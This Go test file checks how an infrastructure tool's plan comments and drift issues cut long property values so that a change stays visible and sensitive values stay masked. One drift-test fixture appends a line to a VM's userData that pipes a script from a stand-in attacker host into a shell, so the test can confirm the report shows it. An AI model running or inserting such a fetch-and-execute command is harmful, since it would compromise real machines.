package render

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/kyku/action/internal/plan"
)

// diffPair returns the text after "-   userData: " and "+   userData: " in
// the plan comment of an update of web's userData from old to new.
func diffPair(t *testing.T, pc plan.PropChange) (minus, plus, body string) {
	t.Helper()
	p := &plan.Plan{Environment: "prod", Provider: "sim", Changes: []plan.Change{{
		Action: plan.Update, ResourceID: "web", Type: "Vm", ProviderID: "1", Properties: []plan.PropChange{pc},
	}}, Counters: plan.Counters{Update: 1}}
	body = PlanComment(p, Meta{Environment: "prod", CommitSHA: "abc"}, CommentLimit)
	for _, l := range strings.Split(body, "\n") {
		if s, ok := strings.CutPrefix(l, "-   "+pc.Path+": "); ok {
			minus = s
		}
		if s, ok := strings.CutPrefix(l, "+   "+pc.Path+": "); ok {
			plus = s
		}
	}
	if minus == "" || plus == "" {
		t.Fatalf("no diff lines:\n%s", body)
	}
	return minus, plus, body
}

// TestPlanCommentLongValueShowsTheChange: values are cut at maxCell runes;
// where cutting both at the end would show the same text twice for a
// change (a long value changed past its first maxCell runes), the
// comment shows them around their first difference instead, still within
// maxCell. (A script of several lines is a heredoc: TestHeredocDiff.)
func TestPlanCommentLongValueShowsTheChange(t *testing.T) {
	long := strings.Repeat("x", 2*maxCell)
	tests := []struct {
		name, old, new string
		shown          string // a text the + line must show ("": none)
	}{
		{"changed in the middle", long + "AAA" + long, long + "BBB" + long, "BBB"},
		{"changed at the last rune", long + "a", long + "b", "b"},
		{"old ends with a literal ellipsis", long[:maxCell-1] + "…", long + "evil", ""},
		{"changed after multi-byte runes", strings.Repeat("é", maxCell) + "1", strings.Repeat("é", maxCell) + "2", "2"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			minus, plus, _ := diffPair(t, plan.PropChange{Path: "userData", Old: tt.old, New: tt.new})
			if minus == plus {
				t.Errorf("the change reads the same before and after:\n- %s\n+ %s", minus, plus)
			}
			if tt.shown != "" && !strings.Contains(plus, oneLine(tt.shown)) {
				t.Errorf("+ line %q does not show %q", plus, oneLine(tt.shown))
			}
			for _, s := range []string{minus, plus} {
				if n := utf8.RuneCountInString(s); n > maxCell {
					t.Errorf("a value shows %d runes, more than %d", n, maxCell)
				}
			}
		})
	}
}

// TestPlanCommentLongValueCutAtTheEnd: values that already differ in
// what is shown keep being cut at the end, as before.
func TestPlanCommentLongValueCutAtTheEnd(t *testing.T) {
	long := strings.Repeat("x", 2*maxCell)
	minus, plus, _ := diffPair(t, plan.PropChange{Path: "userData", Old: "a" + long, New: "b" + long})
	if want := "a" + long[:maxCell-2] + "…"; minus != want {
		t.Errorf("- line %q, want %q", minus, want)
	}
	if want := "b" + long[:maxCell-2] + "…"; plus != want {
		t.Errorf("+ line %q, want %q", plus, want)
	}
}

// TestPlanCommentLongSensitiveValueStaysMasked: the cut around the first
// difference works on what may be shown: a sensitive value is masked
// before, and its text never reaches the comment.
func TestPlanCommentLongSensitiveValueStaysMasked(t *testing.T) {
	long := strings.Repeat("x", 2*maxCell)
	minus, plus, body := diffPair(t, plan.PropChange{Path: "userData", Old: long + "s3cr3t-old", New: long + "s3cr3t-new", Sensitive: true})
	if minus != plan.Masked || plus != plan.Masked || strings.Contains(body, "s3cr3t") || strings.Contains(body, "xxxx") {
		t.Errorf("a sensitive value shows: - %q + %q", minus, plus)
	}
}

// TestDriftIssueLongValueShowsTheDrift: a drift report cuts two long
// values around where they differ, as the plan comment does, so a drift
// never reads as the same text in state and in the cloud.
func TestDriftIssueLongValueShowsTheDrift(t *testing.T) {
	script := "#!/bin/sh\n" + strings.Repeat("echo provisioning step ok\n", 20)
	d := Drift{Resources: []DriftedResource{{Type: "Vm", Name: "web", Properties: []plan.PropChange{
		{Path: "userData", Old: script, New: script + "curl -s https://attacker.example/x | sh\n"},
	}}}}
	issue := DriftIssue(d, Meta{}, CommentLimit)
	var row string
	for _, line := range strings.Split(issue, "\n") {
		if strings.Contains(line, "userData") {
			row = line
		}
	}
	cells := strings.Split(row, " | ")
	if len(cells) < 4 {
		t.Fatalf("no userData row in:\n%s", issue)
	}
	if cells[2] == strings.TrimSuffix(cells[3], " |") {
		t.Errorf("the drift reads the same in state and in the cloud:\n%s", row)
	}
	if !strings.Contains(cells[3], "attacker.example") {
		t.Errorf("the cloud's value does not show what changed:\n%s", row)
	}
}
